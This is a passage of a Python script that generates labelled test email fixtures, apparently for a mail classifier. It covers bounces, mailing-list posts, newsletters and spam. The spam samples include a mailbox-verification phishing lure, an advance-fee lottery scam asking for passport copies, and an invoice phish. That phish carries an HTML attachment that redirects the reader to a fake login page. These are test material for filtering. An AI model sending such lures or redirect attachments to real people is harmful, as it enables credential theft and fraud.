Content-Type: image/png; name="icon.png"
Content-Disposition: attachment; filename="icon.png"
Content-Transfer-Encoding: base64
Content-ID: <icon.png>

{b64(PNG_HEAD + stream("icon", 600))}
--0000000000009a8d3e05d95e1f27--
--0000000000009a8b7c05d95e1f20
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.example.com
Received-From-MTA: dns; contact@callflow.example.org
Arrival-Date: Fri, 04 Mar 2022 01:12:08 -0800 (PST)
X-Original-Message-ID: {cf_msgid("ack", rcpt)}

Final-Recipient: rfc822; {rcpt}
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.net. (203.0.113.90, the server for the domain example.net.)
Diagnostic-Code: smtp; 550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown in virtual mailbox table
Last-Attempt-Date: Fri, 04 Mar 2022 01:12:09 -0800 (PST)

--0000000000009a8b7c05d95e1f20
Content-Type: message/rfc822

{original(rcpt, "Sofia Rosi", "Fri, 4 Mar 2022 10:12:07 +0100")}
--0000000000009a8b7c05d95e1f20--
""")
    add("bounce-gmail-dsn-failure.eml", "bounce", "none", False, "", rcpt,
        "Gmail 'Delivery Status Notification (Failure)': report/related/alternative nesting with an icon", raw,
        crlf=True)

    # --- qmail, not RFC 3464
    d = "4 Mar 2022 12:30:55 -0000"
    rcpt = "anna.k@kurator.example.com"
    raw = (envelope("", "Fri, 4 Mar 2022 12:30:55 +0000", "mail.kurator.example.com", "198.51.100.141")
           + f"""Date: {d}
From: MAILER-DAEMON@mail.kurator.example.com
To: contact@callflow.example.org
Subject: failure notice

Hi. This is the qmail-send program at mail.kurator.example.com.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<{rcpt}>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

{original(rcpt, "Anna K.", "Fri, 4 Mar 2022 13:30:50 +0100")}""")
    add("bounce-qmail-failure-notice.eml", "bounce", "none", False, "", rcpt,
        "qmail non-standard bounce: text/plain, no MIME headers, no Auto-Submitted; Date without weekday", raw)

    # --- Postfix delayed (4.x.x): temporary, nothing bounced yet
    rcpt = "w.schmidt@verein.example.org"
    raw = postfix_dsn("b6", "Sat, 5 Mar 2022 14:15:20 +0100 (CET)", "Sat, 5 Mar 2022 10:15:12 +0100 (CET)",
                      [(rcpt, "4.4.1", "mx.verein.example.org",
                        "X-Postfix; connect to mx.verein.example.org[203.0.113.77]:25:\n    Connection timed out")],
                      subject="Delayed Mail (still being retried)", action="delayed", headers_only=True,
                      extra_fields="Will-Retry-Until: Sat, 12 Mar 2022 10:15:12 +0100 (CET)\n",
                      human=f"""####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

Your message could not be delivered for more than 4 hour(s).
It will be retried until it is 7 day(s) old.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<{rcpt}>: connect to mx.verein.example.org[203.0.113.77]:25:
    Connection timed out""")
    add("bounce-postfix-delayed-temporary.eml", "bounce", "none", False, "", "",
        f"temporary: Action delayed, 4.4.1 for {rcpt}; nothing bounced yet (do not flag)", raw)

    # --- Postfix, two recipients, domain does not exist
    r1, r2 = "m.fischer@jugendhilfe.example.net", "sekretariat@jugendhilfe.example.net"
    raw = postfix_dsn("b7", "Mon, 14 Mar 2022 10:02:40 +0100 (CET)", "Mon, 14 Mar 2022 10:02:38 +0100 (CET)",
                      [(r, "5.4.4", None, "X-Postfix; Host or domain name not found. Name service error\n"
                        "    for name=jugendhilfe.example.net type=AAAA: Host not found") for r in (r1, r2)],
                      orig_to=r1, human=f"""I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<{r1}>: Host or domain name not found. Name service error
    for name=jugendhilfe.example.net type=AAAA: Host not found

<{r2}>: Host or domain name not found. Name service error
    for name=jugendhilfe.example.net type=AAAA: Host not found""")
    add("bounce-postfix-two-recipients.eml", "bounce", "none", False, "", f"{r1},{r2}",
        "Postfix DSN with two failed recipients (To + Cc), 5.4.4 domain not found", raw)

    # --- sendmail, rejected by policy
    d = "Tue, 8 Mar 2022 09:12:33 +0100"
    rcpt = "d.weiss@lka.example.net"
    raw = (envelope("", d, "mail.lka.example.net", "198.51.100.90") + f"""Received: from localhost (localhost)
	by mail.lka.example.net (8.15.2/8.15.2) id 2288CX5p011834;
	{d}
Date: {d}
From: Mail Delivery Subsystem <MAILER-DAEMON@mail.lka.example.net>
Message-Id: <202203080812.2288CX5p011834@mail.lka.example.net>
To: <contact@callflow.example.org>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="2288CX5p011834.1646727153/mail.lka.example.net"
Subject: Returned mail: see transcript for details
Auto-Submitted: auto-generated (failure)

This is a MIME-encapsulated message

--2288CX5p011834.1646727153/mail.lka.example.net

The original message was received at Tue, 8 Mar 2022 09:12:31 +0100
from smtp.callflow.example.org [192.0.2.11]

   ----- The following addresses had permanent fatal errors -----
<{rcpt}>
    (reason: 550 5.7.1 Message rejected by content policy)

   ----- Transcript of session follows -----
... while talking to mailgw.lka.example.net.:
>>> DATA
<<< 550 5.7.1 Message rejected by content policy
550 5.1.1 <{rcpt}>... User unknown
<<< 503 5.0.0 Need RCPT (recipient)

--2288CX5p011834.1646727153/mail.lka.example.net
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.lka.example.net
Received-From-MTA: DNS; smtp.callflow.example.org
Arrival-Date: Tue, 8 Mar 2022 09:12:31 +0100

Final-Recipient: RFC822; {rcpt}
Action: failed
Status: 5.7.1
Remote-MTA: DNS; mailgw.lka.example.net
Diagnostic-Code: SMTP; 550 5.7.1 Message rejected by content policy
Last-Attempt-Date: Tue, 8 Mar 2022 09:12:33 +0100

--2288CX5p011834.1646727153/mail.lka.example.net
Content-Type: message/rfc822

{original(rcpt, "Daniel Weiss", "Tue, 8 Mar 2022 09:12:30 +0100")}
--2288CX5p011834.1646727153/mail.lka.example.net--
""")
    add("bounce-sendmail-policy-reject.eml", "bounce", "none", False, "", rcpt,
        "sendmail DSN; first part has no Content-Type; 'Auto-Submitted: auto-generated (failure)'", raw)

    # --- Lotus Domino non-standard
    d = "Wed, 9 Mar 2022 11:00:04 +0100"
    rcpt = "h.mayer@polizei.example.com"
    raw = (envelope("", d, "gw.polizei.example.com", "198.51.100.5") + f"""Subject: DELIVERY FAILURE: User Hans Mayer (h.mayer@polizei.example.com) not listed in
 Domino Directory
To: contact@callflow.example.org
From: Postmaster@polizei.example.com
Date: {d}
Message-ID: <OFDC2A5F17.0B8C4E3D-ONC1258802.0036A1F0@polizei.example.com>
X-MIMETrack: Itemize by SMTP Server on NOTES01/POLIZEI(Release 9.0.1FP10HF383) at 09.03.2022
 11:00:04
MIME-Version: 1.0
Content-Type: text/plain; charset=US-ASCII

Your message

  Subject: Re: Participation in the working group meeting

was not delivered to:

  h.mayer@polizei.example.com

because:

  User Hans Mayer (h.mayer@polizei.example.com) not listed in Domino Directory
""")
    add("bounce-domino-delivery-failure.eml", "bounce", "none", False, "", rcpt,
        "Lotus Domino non-standard bounce: plain text, no report part, no original; only subject/body name the address",
        raw)


# =========================================================================== list mail
def list_messages():
    # --- Mailman 3 post
    d = "Tue, 8 Mar 2022 11:30:00 +0100"
    raw = (envelope("practitioners-net-bounces@lists.example.net", d, "lists.example.net", "198.51.100.30")
           + f"""Received: from lists.example.net (localhost [127.0.0.1])
	by lists.example.net (Postfix) with ESMTP id 7B0A3C0044;
	{d}
From: Marek Horvat <marek.horvat@example.com>
To: practitioners-net@lists.example.net
Subject: [practitioners-net] Conference on reintegration after prison, Zagreb, June 2022
Date: {d}
Message-ID: <4f1c9b2e-7a3d-4e5f-8b6c-0d9e1f2a3b4c@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit
Message-ID-Hash: 3ZP4XQOVB2Y7K5N6M4L3J2H1G0F9E8D7
X-Message-ID-Hash: 3ZP4XQOVB2Y7K5N6M4L3J2H1G0F9E8D7
X-MailFrom: marek.horvat@example.com
X-Mailman-Rule-Misses: dmarc-mitigation; no-senders; approved; emergency; loop; banned-address; member-moderation; header-match-practitioners-net.lists.example.net-0; nonmember-moderation; administrivia; implicit-dest; max-recipients; max-size; news-moderation; no-subject; suspicious-header
X-Mailman-Version: 3.3.5
Precedence: list
List-Id: Practitioners network <practitioners-net.lists.example.net>
Archived-At: <https://lists.example.net/archives/list/practitioners-net@lists.example.net/message/3ZP4XQOVB2Y7K5N6M4L3J2H1G0F9E8D7/>
List-Archive: <https://lists.example.net/archives/list/practitioners-net@lists.example.net/>
List-Help: <mailto:practitioners-net-request@lists.example.net?subject=help>
List-Owner: <mailto:practitioners-net-owner@lists.example.net>
List-Post: <mailto:practitioners-net@lists.example.net>
List-Subscribe: <mailto:practitioners-net-join@lists.example.net>
List-Unsubscribe: <mailto:practitioners-net-leave@lists.example.net>

Dear all,

registration is open for our conference on reintegration after prison
(Zagreb, 15-17 June 2022). Please confirm your attendance via the website
by 30 April.

Marek
_______________________________________________
practitioners-net mailing list -- practitioners-net@lists.example.net
To unsubscribe send an email to practitioners-net-leave@lists.example.net
""")
    add("list-mailman3-post.eml", "list", "none", False, "", "",
        "Mailman 3 list post (List-Id, Precedence: list); body says 'confirm'/'unsubscribe'", raw)

    # --- somebody answers the call on the list (list copy)
    d = "Tue, 22 Feb 2022 09:14:00 +0100"
    raw = (envelope("practitioners-net-bounces@lists.example.net", d, "lists.example.net", "198.51.100.30")
           + f"""From: Tanja Horvat via practitioners-net <practitioners-net@lists.example.net>
Reply-To: Tanja Horvat <tanja.horvat@example.org>
To: practitioners-net@lists.example.net
Cc: contact@callflow.example.org
Subject: [practitioners-net] Re: Call for participants: working group meeting,
 24-25 March 2022 (online)
Date: {d}
Message-ID: <b7e8f9a0-1b2c-4d3e-9f4a-5b6c7d8e9f01@example.org>
In-Reply-To: <call-2022-02-21@example.org>
References: <call-2022-02-21@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit
X-Mailman-Version: 3.3.5
Precedence: list
List-Id: Practitioners network <practitioners-net.lists.example.net>
List-Post: <mailto:practitioners-net@lists.example.net>
List-Unsubscribe: <mailto:practitioners-net-leave@lists.example.net>
X-Mailman-Original-From: Tanja Horvat <tanja.horvat@example.org>

I'd be interested too - is the meeting open to people working in victim
support rather than with offenders?

Tanja

On 21/02/2022 10:00, Anna Organiser wrote:
> Dear colleagues,
>
> we are organising an online working group meeting ...
""")
    add("list-reply-to-call-via-list.eml", "list", "none", False, "", "",
        "a person's interest+question, but this is the list copy (List-Id, DMARC-munged From): never auto-answer; "
        "organisers may want to see it", raw)

    # --- newsletter (ESP), Precedence: bulk
    d = "Thu, 10 Mar 2022 07:00:05 +0000"
    html = ('<!doctype html><html><head><meta charset="UTF-8"><title>Prevention Newsletter March 2022</title></head>'
            '<body style="margin:0;padding:0;background:#f2f2f2"><center><table width="600"><tr><td>'
            '<h1>Prevention Newsletter – March 2022</h1><p>Webinar: trauma-informed probation practice, 31 March.</p>'
            '<p><a href="https://ngo.us1.list-manage.example.com/track/click?u=2b1c&amp;id=9f8e">Register now</a></p>'
            '<p style="font-size:11px">You are receiving this because you signed up on our website. '
            '<a href="https://ngo.us1.list-manage.example.com/unsubscribe?u=2b1c&amp;id=7d6e">Unsubscribe</a></p>'
            '<img src="https://ngo.us1.list-manage.example.com/track/open.php?u=2b1c&amp;id=9f8e" width="1" height="1">'
            '</td></tr></table></center></body></html>')
    raw = (envelope("bounce-mc.us1_1234567.8901234-contact=callflow.example.org@mail163.atl61.mcsv.example.net", d,
                    "mail163.atl61.mcsv.example.net", "198.2.179.163") + f"""DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=mcsv.example.net; s=k2; t=1646895605;
	bh={fake_b64("l3bh", 43)}=; h=From:Subject:List-Unsubscribe;
	b={fold(fake_b64("l3b", 342))}==
Subject: =?utf-8?Q?Prevention_Newsletter_=E2=80=93_March_2022?=
From: =?utf-8?Q?Prevention_Network_Example?= <newsletter@ngo.example.org>
Reply-To: =?utf-8?Q?Prevention_Network_Example?= <newsletter@ngo.example.org>
To: <contact@callflow.example.org>
Date: {d}
Message-ID: <a1b2c3d4e5f6a7b8c9d0.1234567.8901234@mail163.atl61.mcsv.example.net>
X-Mailer: MailChimp Mailer - **CIDa1b2c3d4e5f6a7b8c9d0**
X-Campaign: mailchimp2b1c3d4e5f6a7b8c9d0e1f2.a1b2c3d4e5
X-campaignid: mailchimp2b1c3d4e5f6a7b8c9d0e1f2.a1b2c3d4e5
X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.example.com/contact/abuse/?u=2b1c&id=a1b2
X-MC-User: 2b1c3d4e5f6a7b8c9d0e1f2
Feedback-ID: 1234567:1234567.8901234:us1:mc
List-ID: 2b1c3d4e5f6a7b8c9d0e1f2mc list <2b1c3d4e5f6a7b8c9d0e1f2.1234567.list-id.mcsv.example.net>
X-Accounttype: pd
List-Unsubscribe: <https://ngo.us1.list-manage.example.com/unsubscribe?u=2b1c&id=7d6e&e=0f1e2d&c=a1b2c3d4e5>, <mailto:unsubscribe-mc.us1_2b1c.a1b2c3d4e5-0f1e2d@mailin1.us1.mcsv.example.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: bulk
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="_----------=_MCPart_1846929180"

This is a multi-part message in MIME format

--_----------=_MCPart_1846929180
Content-Type: text/plain; charset="utf-8"; format="fixed"
Content-Transfer-Encoding: quoted-printable

{qp('''Prevention Newsletter – March 2022

Webinar: trauma-informed probation practice, 31 March.
Register now: https://ngo.us1.list-manage.example.com/track/click?u=2b1c&id=9f8e

Unsubscribe: https://ngo.us1.list-manage.example.com/unsubscribe?u=2b1c&id=7d6e
''')}
--_----------=_MCPart_1846929180
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(html)}
--_----------=_MCPart_1846929180--
""")
    add("list-newsletter-esp-bulk.eml", "list", "none", False, "", "",
        "ESP newsletter: Precedence: bulk, List-Unsubscribe(-Post), List-ID", raw, crlf=True)

    # --- Google Groups
    d = "Wed, 16 Mar 2022 12:44:19 -0700 (PDT)"
    raw = (envelope("exit-network+bncBDL3XZ7QSMBRBX6Y4CIQMGQE6Q3GQ7I@googlegroups.example.com",
                    "Wed, 16 Mar 2022 20:44:21 +0100", "mail-qk1-f184.googlegroups.example.com", "209.85.222.184")
           + f"""Received: by mail-qk1-f184.googlegroups.example.com with SMTP id bk12-20020a05620a1a0c00b0067d6b1c1a5dsf2231543qkb.1
        for <contact@callflow.example.org>; Wed, 16 Mar 2022 12:44:20 -0700 (PDT)
X-BeenThere: exit-network@googlegroups.example.com
Received: by 2002:a05:620a:40c6:: with SMTP id g6ls1234567qko.8.gmail; Wed, 16 Mar
 2022 12:44:19 -0700 (PDT)
Date: {d}
From: Lars Nilsen <lars.nilsen@example.org>
To: Exit network <exit-network@googlegroups.example.com>
Message-Id: <8c5f2e1d-4b3a-4c9e-a7d6-1f0e9d8c7b6a@googlegroups.example.com>
Subject: [exit-network] Anyone going to the working group meeting on 24 March?
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_Part_1234_567890123.1647459859012"
X-Original-Sender: lars.nilsen@example.org
X-Original-Authentication-Results: gmr-mx.google.example.com;       dkim=pass header.i=@example.org
Reply-To: exit-network@googlegroups.example.com
Precedence: list
Mailing-list: list exit-network@googlegroups.example.com; contact exit-network+owners@googlegroups.example.com
List-ID: <exit-network.googlegroups.example.com>
X-Spam-Checked-In-Group: exit-network@googlegroups.example.com
X-Google-Group-Id: 408827133211
List-Post: <https://groups.google.example.com/group/exit-network/post>, <mailto:exit-network@googlegroups.example.com>
List-Help: <https://groups.google.example.com/support/>, <mailto:exit-network+help@googlegroups.example.com>
List-Archive: <https://groups.google.example.com/group/exit-network
List-Subscribe: <https://groups.google.example.com/group/exit-network/subscribe>, <mailto:exit-network+subscribe@googlegroups.example.com>
List-Unsubscribe: <mailto:googlegroups-manage+408827133211+unsubscribe@googlegroups.example.com>,
 <https://groups.google.example.com/group/exit-network/subscribe>

------=_Part_1234_567890123.1647459859012
Content-Type: multipart/alternative; boundary="----=_Part_1235_987654321.1647459859012"

------=_Part_1235_987654321.1647459859012
Content-Type: text/plain; charset="UTF-8"

Hi all, is anyone else going to the working group meeting on 24-25 March?
I'd like to take part and maybe we could share notes afterwards.

Lars

-- 
You received this message because you are subscribed to the Google Groups "Exit network" group.
To unsubscribe from this group and stop receiving emails from it, send an email to exit-network+unsubscribe@googlegroups.example.com.
To view this discussion on the web visit https://groups.google.example.com/d/msgid/exit-network/8c5f2e1d-4b3a-4c9e-a7d6-1f0e9d8c7b6a%40googlegroups.example.com.

------=_Part_1235_987654321.1647459859012
Content-Type: text/html; charset="UTF-8"

<div>Hi all, is anyone else going to the working group meeting on 24-25 March?</div><div>I'd like to take part and maybe we could share notes afterwards.</div><div><br></div><div>Lars</div>

<p></p>

-- <br />
You received this message because you are subscribed to the Google Groups &quot;Exit network&quot; group.<br />

------=_Part_1235_987654321.1647459859012--

------=_Part_1234_567890123.1647459859012--
""")
    add("list-google-groups-post.eml", "list", "none", False, "", "",
        "Google Groups post saying 'I'd like to take part': list mail, not an applicant; unclosed <> in List-Archive",
        raw, crlf=True)

    # --- Mailman 2 MIME digest
    d = "Sat, 12 Mar 2022 12:00:03 +0100"
    raw = (envelope("probation-l-bounces@lists.example.org", d, "lists.example.org", "203.0.113.200")
           + f"""Subject: probation-l Digest, Vol 112, Issue 4
From: probation-l-request@lists.example.org
To: probation-l@lists.example.org
Reply-To: probation-l@lists.example.org
Date: {d}
Message-ID: <mailman.1122.1647082803.2231.probation-l@lists.example.org>
X-Mailman-Version: 2.1.29
Precedence: list
List-Id: European probation practitioners <probation-l.lists.example.org>
List-Unsubscribe: <https://lists.example.org/mailman/options/probation-l>,
 <mailto:probation-l-request@lists.example.org?subject=unsubscribe>
List-Post: <mailto:probation-l@lists.example.org>
List-Help: <mailto:probation-l-request@lists.example.org?subject=help>
List-Subscribe: <https://lists.example.org/mailman/listinfo/probation-l>,
 <mailto:probation-l-request@lists.example.org?subject=subscribe>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="===============3341290488741152233=="

--===============3341290488741152233==
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0
Content-Transfer-Encoding: 7bit
Content-Description: probation-l Digest, Vol 112, Issue 4

Send probation-l mailing list submissions to
	probation-l@lists.example.org

Today's Topics:

   1. Working group meeting 24-25 March - places left? (Ruth Levin)
   2. Re: Risk assessment tools (Jon Berg)

--===============3341290488741152233==
Content-Type: multipart/digest; boundary="===============7706425197326613881=="
MIME-Version: 1.0

--===============7706425197326613881==
Content-Type: message/rfc822
MIME-Version: 1.0

From: Ruth Levin <ruth.levin@example.com>
To: probation-l@lists.example.org
Subject: [probation-l] Working group meeting 24-25 March - places left?
Date: Fri, 11 Mar 2022 15:20:00 +0100
Message-ID: <a9b8c7d6@example.com>
Content-Type: text/plain; charset="us-ascii"

Does anyone know whether there are still places left? I missed the survey
deadline. Please confirm if you heard anything.

--===============7706425197326613881==
Content-Type: message/rfc822
MIME-Version: 1.0

From: Jon Berg <jon.berg@example.net>
To: probation-l@lists.example.org
Subject: Re: [probation-l] Risk assessment tools
Date: Fri, 11 Mar 2022 17:02:00 +0100
Message-ID: <f1e2d3c4@example.net>
Content-Type: text/plain; charset="us-ascii"

We use a structured professional judgement tool; happy to share slides.

--===============7706425197326613881==--

--===============3341290488741152233==
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0
Content-Transfer-Encoding: 7bit
Content-Disposition: inline

_______________________________________________
probation-l mailing list
probation-l@lists.example.org
https://lists.example.org/mailman/listinfo/probation-l

--===============3341290488741152233==--
""")
    add("list-mailman2-mime-digest.eml", "list", "none", False, "", "",
        "Mailman 2 MIME digest (multipart/digest of message/rfc822); embedded posts mention the meeting", raw)

    # --- event promotion via an ESP: only List-Unsubscribe, no Precedence, no List-Id
    d = "Mon, 14 Mar 2022 08:30:00 +0000"
    raw = (envelope("bounces-98765@em.conference.example.com", d, "o1.em.conference.example.com", "198.51.100.240")
           + f"""From: European Crime Prevention Days <events@conference.example.com>
To: contact@callflow.example.org
Subject: Last chance: early-bird tickets end Friday
Date: {d}
Message-ID: <X9aB8cD7eF6gH5iJ4kL3mN2@em.conference.example.com>
List-Unsubscribe: <https://em.conference.example.com/u/98765/a1b2c3>, <mailto:unsub-98765-a1b2c3@em.conference.example.com>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-SG-EID: {fake_b64("sgeid", 80)}
X-Entity-ID: {fake_b64("sgent", 22)}==
MIME-Version: 1.0
Content-Type: text/html; charset=us-ascii
Content-Transfer-Encoding: 7bit

<html><body><h2>Early-bird tickets end Friday!</h2><p>Join 800 practitioners in Lisbon, 12-14 October 2022.</p><p><a href="https://em.conference.example.com/c/98765/tickets">Book now</a></p><p style="font-size:10px"><a href="https://em.conference.example.com/u/98765/a1b2c3">Unsubscribe</a></p></body></html>
""")
    add("list-marketing-list-unsubscribe-only.eml", "list", "none", False, "", "",
        "marketing mail with only List-Unsubscribe (no List-Id, no Precedence)", raw)


# =========================================================================== spam
def spam_messages():
    d = "Tue, 8 Mar 2022 04:12:55 +0530"
    raw = (envelope("seo.expert@rank-boost.example.net", d, "vps-2231.rank-boost.example.net", "203.0.113.222",
                    spam=(9.1, "BAYES_99,BAYES_999,FREEMAIL_FORGED_REPLYTO,FSL_BULK_SIG,\n\tRCVD_IN_SBL_CSS,"
                               "SPF_FAIL,URIBL_BLACK"))
           + f"""From: Ravi Kumar <seo.expert@rank-boost.example.net>
Reply-To: ravi.seoteam@freemail.example.com
To: contact@callflow.example.org
Subject: Re: Website ranking on Google for callflow.example.org
Date: {d}
Message-ID: <20220308041255.7F3A1B2C@rank-boost.example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
X-Mailer: PHPMailer 5.2.9

Hi,

I was checking your website and found it is not ranking on Google first
page for many keywords. We are a leading SEO company and can bring your
website to #1 position within 30 days with 100% guarantee.

Please reply with your phone number and best time to call. If you are not
interested, please reply "unsubscribe".

Regards,
Ravi Kumar
Sr. SEO Consultant
""")
    add("spam-seo-offer-flagged.eml", "spam", "none", False, "", "",
        "SEO spam; X-Spam-Flag: YES / X-Spam-Status: Yes; fake 'Re:' and 'reply unsubscribe'", raw)

    d = "Wed, 9 Mar 2022 02:40:01 +0000"
    raw = (envelope("wallet@btc-notify.example.com", d, "mail.btc-notify.example.com", "192.0.2.250",
                    spam=(12.4, "BAYES_99,HTML_MESSAGE,MIME_HTML_ONLY,PDS_BTC_ID,RAZOR2_CHECK,\n\tT_REMOTE_IMAGE,URIBL_ABUSE_SURBL"))
           + f"""From: "Crypto Wallet" <wallet@btc-notify.example.com>
To: contact@callflow.example.org
Subject: =?UTF-8?B?8J+SsCBZb3VyIHdhbGxldCByZWNlaXZlZCAwLjc1IEJUQw==?=
Date: {d}
Message-ID: <a8c7e6d5b4a3@btc-notify.example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8

<html><body><h1>&#128176; 0.75 BTC is waiting for you</h1><p>Your account has received a transfer of <b>0.75 BTC (~ 28,400 EUR)</b>. To withdraw the funds to your bank account, confirm your identity within 24 hours:</p><p><a href="http://btc-notify.example.com/claim?id=77120">WITHDRAW NOW</a></p><img src="http://btc-notify.example.com/p.gif?id=77120"></body></html>
""")
    add("spam-crypto-flagged.eml", "spam", "none", False, "", "",
        "crypto spam with 'withdraw'/'confirm' words; emoji B-encoded subject; X-Spam-Flag: YES", raw)

    d = "Thu, 10 Mar 2022 23:01:17 +0100"
    raw = (envelope("admin@mailbox-verify.example.com", d, "host-203-0-113-5.example.com", "203.0.113.5",
                    spam=(7.3, "BAYES_80,FORGED_SPOOFED_FROM,HTML_MESSAGE,PHISH_MAILBOX_QUOTA,\n\tSPF_SOFTFAIL"))
           + f"""From: "callflow.example.org Mail Administrator" <admin@mailbox-verify.example.com>
To: contact@callflow.example.org
Subject: Action required: verify your mailbox contact@callflow.example.org
Date: {d}
Message-ID: <1646949677.554433@host-203-0-113-5.example.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="b1_phish_554433"

--b1_phish_554433
Content-Type: text/plain; charset=us-ascii

Dear contact@callflow.example.org,

Your mailbox has exceeded its storage limit. Incoming messages are on hold.
Verify your mailbox within 24 hours to avoid deletion of your data:
http://mailbox-verify.example.com/owa/login?u=contact@callflow.example.org

Mail Administrator
--b1_phish_554433
Content-Type: text/html; charset=us-ascii

<html><body><p>Dear contact@callflow.example.org,</p><p>Your mailbox has exceeded its storage limit (99.8%). Incoming messages are on hold.</p><p><a href="http://mailbox-verify.example.com/owa/login?u=contact@callflow.example.org" style="background:#0072c6;color:#fff;padding:8px">VERIFY MAILBOX</a></p><p>Failure to verify will result in deletion of your data.</p></body></html>
--b1_phish_554433--
""")
    add("spam-phishing-verify-mailbox.eml", "spam", "none", False, "", "",
        "phishing 'verify your mailbox' (mentions 'deletion of your data'); X-Spam-Status: Yes", raw)

    d = "Fri, 11 Mar 2022 06:33:09 +0100"
    raw = (envelope("claims.agent@lottery.example.net", d, "smtp.lottery.example.net", "198.51.100.250")
           + f"""From: "EuroMillions International Promotion" <claims.agent@lottery.example.net>
Reply-To: claims.dept.2022@freemail.example.com
To: undisclosed-recipients:;
Subject: CONGRATULATIONS!!! YOUR EMAIL HAS WON EUR 1,500,000.00
Date: {d}
Message-ID: <20220311053309.4471.qmail@smtp.lottery.example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

ATTN: WINNER

Your email address was selected in our international e-mail draw and has
won the sum of EUR 1,500,000.00 (One Million Five Hundred Thousand Euro).

To claim your prize please send your full name, address, phone number and
a copy of your passport to our claims agent: claims.dept.2022@freemail.example.com

Reference number: EM/2022/0311/77A
Batch: 24/03/2022

Yours faithfully,
Mrs. Jane Smith
Promotions Manager
""")
    add("spam-lottery-not-flagged.eml", "spam", "none", False, "", "",
        "blatant advance-fee spam with no spam-filter headers at all; To: undisclosed-recipients", raw)

    d = "Sat, 12 Mar 2022 13:45:00 +0000"
    raw = (envelope("billing@invoices-online.example.com", d, "mx.invoices-online.example.com", "203.0.113.180")
           + f"""X-Spamd-Result: default: False [14.50 / 15.00];
	BAYES_SPAM(5.10)[99.98%];
	PHISHING(4.00)[invoices-online.example.com];
	MIME_HTML_ONLY(0.20)[];
	FORGED_SENDER(0.30)[billing@invoices-online.example.com];
	MID_RHS_NOT_FQDN(0.50)[]
X-Rspamd-Action: add header
X-Rspamd-Server: mx1.callflow.example.org
X-Spam: Yes
From: Accounts Department <billing@invoices-online.example.com>
To: contact@callflow.example.org
Subject: Invoice #INV-20220311 overdue - final reminder
Date: {d}
Message-ID: <invoice.20220311@localhost>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="inv_boundary_001"

--inv_boundary_001
Content-Type: text/html; charset=utf-8

<p>Dear customer,</p><p>Your invoice is overdue. Please open the attached document and confirm payment today to avoid legal action.</p>
--inv_boundary_001
Content-Type: text/html; name="Invoice_INV-20220311.html"
Content-Disposition: attachment; filename="Invoice_INV-20220311.html"
Content-Transfer-Encoding: base64

{b64('<html><body><script>window.location="http://invoices-online.example.com/login"</script></body></html>')}
--inv_boundary_001--
""")
    add("spam-rspamd-invoice-phish.eml", "spam", "none", False, "", "",
        "rspamd headers (X-Spam: Yes, X-Rspamd-Action), HTML attachment with script", raw)

    d = "Sun, 13 Mar 2022 03:03:03 +0100"
    inner = f"""Received: from unknown (HELO pharma.example.net) (203.0.113.66)
	by mx1.callflow.example.org with SMTP; {d}
From: "Online Pharmacy" <sales@pharma.example.net>
To: contact@callflow.example.org
Subject: Cheap meds - 80% off
Date: {d}
Message-ID: <0303030303.pharma@pharma.example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Best prices on all meds, no prescription needed. Order now!
http://pharma.example.net/shop
"""
    raw = (envelope("sales@pharma.example.net", d, "unknown", "203.0.113.66") + f"""From: "Online Pharmacy" <sales@pharma.example.net>
To: contact@callflow.example.org
Subject: ***SPAM*** Cheap meds - 80% off
Date: {d}
Message-Id: <0303030303.pharma@pharma.example.net>
X-Spam-Checker-Version: SpamAssassin 3.4.6 (2021-04-09) on mx1.callflow.example.org
X-Spam-Flag: YES
X-Spam-Level: ***************
X-Spam-Status: Yes, score=15.2 required=5.0 tests=BAYES_99,DRUGS_ERECTILE,
	RCVD_IN_PBL,RDNS_NONE,URIBL_BLACK autolearn=spam version=3.4.6
X-Spam-Report: 
	*  3.5 BAYES_99 BODY: Bayes spam probability is 99 to 100%
	*  3.3 RCVD_IN_PBL RBL: Received via a relay in Spamhaus PBL
	*  1.7 URIBL_BLACK Contains an URL listed in the URIBL blacklist
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----------=_622D5257.2A1B3C4D"

This is a multi-part message in MIME format.

------------=_622D5257.2A1B3C4D
Content-Type: text/plain; charset=iso-8859-1
Content-Disposition: inline
Content-Transfer-Encoding: 8bit

Spam detection software, running on the system "mx1.callflow.example.org",
has identified this incoming email as possible spam.  The original
message has been attached to this so you can view it or label
similar future email.  If you have any questions, see
the administrator of that system for details.

Content preview:  Best prices on all meds, no prescription needed. Order now!

Content analysis details:   (15.2 points, 5.0 required)

------------=_622D5257.2A1B3C4D
